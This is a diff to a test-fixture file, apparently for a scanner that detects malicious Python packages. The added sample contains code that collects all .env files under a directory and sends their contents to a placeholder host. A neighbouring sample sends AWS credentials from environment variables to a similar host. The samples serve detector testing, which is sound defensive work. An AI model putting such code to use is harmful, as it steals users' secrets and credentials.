@@ -83,6 +83,13 @@ export const samples: Samples = {
       expected: [{ rule: 'given-secret', file: 'own/__init__.py', line: 4, severity: 'high' }],
     },
     {
+      name: 'Python: files of secrets that are looked for by name',
+      files: wheel(
+        'import os, requests\ndef look(root):\n    found = []\n    for folder, _, names in os.walk(root):\n        for name in names:\n            if name.endswith(".env"):\n                found.append(open(os.path.join(folder, name)).read())\n    requests.get("https://api.weir.test/own", params={"h": found})\n',
+      ),
+      expected: [{ rule: 'files', file: 'own/__init__.py', line: 8, severity: 'high' }],
+    },
+    {
       name: 'Python: two keys of the environment, to a free host',
       files: wheel(
         'import os, requests\ndef send():\n    requests.get("https://own.free.weir.test/" + os.environ.get("AWS_ACCESS_KEY_ID", "") + os.environ.get("AWS_SECRET_ACCESS_KEY", ""))\n',
